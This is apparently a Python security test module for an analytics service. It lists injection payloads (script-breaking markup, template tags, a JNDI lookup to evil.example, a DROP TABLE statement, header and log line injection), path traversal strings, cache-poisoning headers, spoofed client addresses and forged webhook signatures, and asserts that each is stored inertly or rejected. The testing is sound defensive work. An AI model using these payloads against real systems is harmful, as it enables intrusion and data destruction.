"""Attacks by text, path and headers, by a forged address and by a forged signature."""

from __future__ import annotations

import base64
import hmac
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from tests.attacks.answers import CANARY, Check, Seen
from tests.attacks.attack import (
    PIXELS,
    SAME,
    URL_PIXEL,
    Answer,
    Attack,
    Row,
    each,
    every,
    header,
    query,
    suffix,
)
from tests.attacks.endpoints import ADDRESS, Hit, sign

# Text that is more than text somewhere


def text(hostile: str) -> Callable[[Hit], None]:
    """Wherever a client may write text: in the event, the pixel's URL, the query, headers and cookies."""

    def change(hit: Hit) -> None:
        hit.event.update({key: {"said": hostile} for key in ("properties", "traits")}, event=hostile, name=hostile)
        for line in ("zone", "canonical", "title", "search", "referrer"):
            hit.said[line] = hostile.replace("\n", " ")
        hit.query = f"callback={quote(hostile)}&title={quote(hostile)}"
        for name in ("user-agent", "accept-language", "accept", "sec-ch-ua", "sec-ch-ua-platform", "x-forwarded-for"):
            hit.headers[name] = hostile
        hit.cookies["note"] = quote(hostile)

    return change


KEEPERS = (*PIXELS, "events", "server", "calls", "hook")


def text_attack(name: str, hostile: str, row: Row = Row.SCRIPT) -> Attack:
    return Attack(name, row, text(f"{hostile}{CANARY}"), each(KEEPERS, kept_as_text(hostile)))


def kept_as_text(hostile: str) -> Check:
    """Answered as always, which is an image, JSON or nothing; and kept as what it is."""

    def check(seen: Seen, good: Seen) -> None:
        assert seen.without("kept") == good.without("kept")
        assert len(seen.kept) == len(good.kept) == 1
        assert hostile.encode("utf-8", "replace").decode() in json_texts(seen.kept)

    return check


def json_texts(value: Any) -> str:
    """All texts in it, one after the other."""
    if isinstance(value, dict):
        return " ".join(json_texts(item) for item in value.values())
    if isinstance(value, list):
        return " ".join(map(json_texts, value))
    return str(value)


TEXTS = [
    text_attack("markup that ends a script", "</script><script>alert(1)</script>"),
    text_attack("markup that ends an attribute", "\"' onload=alert(1) x="),
    text_attack("a template's tags", "{{ 7*7 }}{% debug %}${7*7}<%= 1 %>"),
    text_attack("line ends that only JavaScript knows", "\u2028alert(1)\u2029"),
    text_attack("letters that read backwards, and a null byte", "\u202egpj.exe\x00"),
    text_attack("a formula of a spreadsheet", "=HYPERLINK(1)"),
    text_attack("a lookup of a logging library", "${jndi:ldap://evil.example/a}"),
    text_attack("SQL", "'; DROP TABLE segment_fallback_waitingmessage; --"),
    text_attack("colours of a terminal", "\x1b[2J\x1b[31m", Row.LOG),
    text_attack("a second line for the log", "\r\nERROR forged", Row.LOG),
    Attack(
        "a function's name to be called with the answer",
        Row.SCRIPT,
        every(query(f"callback={CANARY}&jsonp={CANARY}&format=html"), header("accept", "text/html")),
    ),
]


# Paths


def path(name: str, tail: str, signed: Answer = "token_invalid", **others: Answer) -> Attack:
    """More of a path. Where the token is in it, that is another one; the rest is no URL of ours."""
    answers = {"pixel": "missing", "noscript": signed, **others, URL_PIXEL: signed}
    return Attack(name, Row.PATH, suffix(tail), answers, otherwise="missing")


def absent(name: str, tail: str) -> Attack:
    return path(name, tail, "missing")


def for_an_hour(seen: Seen, good: Seen) -> None:
    """The script of today, whichever was asked for."""
    assert seen.without("headers") == good.without("headers")
    assert seen.headers["Cache-Control"] == "public, max-age=3600"


PATHS = [
    path("a path with a null byte", "%00"),
    path("a path with a parameter", ";a=b"),
    path("a path with letters that look like a slash", quote("\u2215..\u2215")),
    path("a path with a percent sign, encoded twice", "%252e%252e%252f"),
    path("a path with a backslash", "%5c..%5c"),
    path("a path with bytes that are no text", "%ff%fe"),
    path("a path with a header's lines", f"%0d%0aSet-Cookie:%20{CANARY}=1%1b[31m"),
    path("a path of 9,000 letters", "A" * 9_000, "size", pixel="size", **{"page's script": for_an_hour}),
    absent("a path that goes up, encoded", "%2f..%2f..%2fadmin"),
    absent("a path that goes up, its dots encoded", "/%2e%2e/%2e%2e/x.js"),
    absent("a path with an empty part", "//x"),
    absent("another site's address behind the path", "/http://evil.example/x.js"),
    Attack("a path that a cache takes for a file", Row.CACHE, suffix("/x.css"),
           {"pixel": SAME, URL_PIXEL: "missing"}, otherwise="missing"),
]  # fmt: skip


def headers(name: str, *names: str, value: str = "evil.example") -> Attack:
    return Attack(name, Row.CACHE, every(*(header(each_name, value) for each_name in names)))


def not_modified(seen: Seen, good: Seen) -> None:
    """A file that anybody may have is still what it was."""
    assert (seen.status, seen.body, seen.kept) == (304, b"", [])
    assert seen.headers["ETag"] == good.headers["ETag"]


SECRETS = every(
    *(header(name, CANARY) for name in ("authorization", "proxy-authorization", "x-api-key", "x-csrftoken")),
    lambda hit: hit.cookies.update(secret=CANARY),
)

FILES = ("file", "settings", "page's script")

CACHES = [
    headers("a host in X-Forwarded-Host", "x-forwarded-host", "x-host", "x-forwarded-server", "x-http-host-override"),
    headers("a host in Forwarded", "forwarded", value="host=evil.example;proto=https"),
    headers("a scheme in X-Forwarded-Proto", "x-forwarded-proto", "x-forwarded-scheme", value="nothttps"),
    headers("a port in X-Forwarded-Port", "x-forwarded-port", value="1"),
    headers("another path in X-Original-URL", "x-original-url", "x-rewrite-url", value="/admin/"),
    headers("a mount in X-Forwarded-Prefix", "x-forwarded-prefix", "x-script-name", value="/evil"),
    headers("a part of the file", "range", value="bytes=0-0"),
    headers("headers that a proxy shall drop", "connection", value="close, cookie, x-forwarded-for, accept-encoding"),
    headers("another protocol", "upgrade", "http2-settings", value="h2c"),
    headers("encodings that there are not", "accept-encoding", value="br;q=1, zstd, gzip;q=0, *;q=-1, " + "x," * 500),
    Attack("a condition that any file meets", Row.CACHE, header("if-none-match", "*"), each(FILES, not_modified)),
    headers("a condition that no file meets", "if-none-match", value='"' + "x" * 5_000),
    headers("a condition on a time", "if-modified-since", "if-unmodified-since", value="Thu, 01 Jan 1970 00:00:00 GMT"),
    Attack("a query string that nobody reads", Row.CACHE, query(f"v={CANARY}&host=evil.example&url=//evil.example")),
    Attack("a query string of markup and bytes", Row.CACHE, query(f"%00%ff<script>{CANARY}%0d%0aSet-Cookie: a=1")),
    Attack("a visitor's secrets", Row.CACHE, SECRETS),
    Attack("a cookie header of 5,000 cookies", Row.CACHE,
           lambda hit: hit.cookies.update({f"c{number}": "x" for number in range(5_000)})),
    Attack("a cookie with a header's lines", Row.LOG, lambda hit: hit.cookies.update(a=f"1\r\nSet-Cookie: {CANARY}=1")),
    Attack("200 headers of 1,000 letters", Row.CACHE,
           every(*(header(f"x-{number}", "x" * 1_000) for number in range(200)))),
]  # fmt: skip


# Addresses


def forwarded(name: str, value: str, proxies: int = 0) -> Attack:
    settings = {"TRUSTED_PROXIES": proxies} if proxies else {}
    return Attack(f"{name}: {value!r}", Row.ADDRESS, header(name, value), settings=settings)


def of_the_address(expected: str) -> Check:
    def check(seen: Seen, good: Seen) -> None:
        assert seen.without("kept") == good.without("kept")
        assert [event["context"]["ip"] for event in seen.kept] == [expected]

    return check


def zoned(name: str, address: str, expected: str) -> Attack:
    answers = each((*PIXELS, "events", "calls"), of_the_address(expected))
    return Attack(name, Row.ADDRESS, header("x-forwarded-for", address), answers, settings={"TRUSTED_PROXIES": 1})


ADDRESSES = [
    forwarded("X-Forwarded-For", "6.6.6.6"),
    forwarded("X-Forwarded-For", "127.0.0.1, 6.6.6.6"),
    forwarded("X-Forwarded-For", f"6.6.6.6, {ADDRESS}", proxies=1),
    forwarded("X-Forwarded-For", f"6.6.6.6, {ADDRESS}, 10.0.0.1", proxies=2),
    forwarded("Forwarded", "for=6.6.6.6;host=evil.example"),
    *(forwarded(name, "6.6.6.6") for name in ("X-Real-IP", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP")),
    zoned("an address with a text for a zone", f"2a00:1450::1%</script>{CANARY}", "2a00:1450::1"),
    zoned("an address of IPv4 written as one of IPv6", "::ffff:8.8.4.4", "8.8.4.4"),
]


# Webhooks


def signature(make: Callable[[Hit], str]) -> Callable[[Hit], None]:
    def change(hit: Hit) -> None:
        hit.signature = make(hit)

    return change


def webhook(name: str, make: Callable[[Hit], str], answer: Answer = "signature") -> Attack:
    return Attack(name, Row.WEBHOOK, signature(make), {"hook": answer})


def altered(hit: Hit) -> None:
    hit.signature = sign(hit)
    hit.body = (hit.packed() or b"{}") + b" "


WEBHOOKS = [
    webhook("no signature", lambda hit: ""),
    webhook("a signature by another secret", lambda hit: hmac.new(b"x", hit.packed(), "sha256").hexdigest()),
    webhook("a signature by no secret", lambda hit: hmac.new(b"", hit.packed(), "sha256").hexdigest()),
    webhook("a signature of another body", lambda hit: hmac.new(b"of-the-webhook", b"x", "sha256").hexdigest()),
    webhook("a signature by SHA-1", lambda hit: hmac.new(b"of-the-webhook", hit.packed(), "sha1").hexdigest()),
    webhook("a signature cut short", lambda hit: sign(hit)[:-1]),
    webhook("a signature in capitals", lambda hit: sign(hit).upper()),
    webhook("a signature in base64 of its hex", lambda hit: base64.b64encode(sign(hit).encode()).decode()),
    webhook("a signature that is not ASCII", lambda hit: "\xfc" * 64),
    webhook("a signature of 100,000 letters", lambda hit: "a" * 100_000),
    Attack("a webhook with a space more than was signed", Row.WEBHOOK, altered, {"hook": "signature"}),
]  # fmt: skip

ATTACKS = [*TEXTS, *PATHS, *CACHES, *ADDRESSES, *WEBHOOKS]
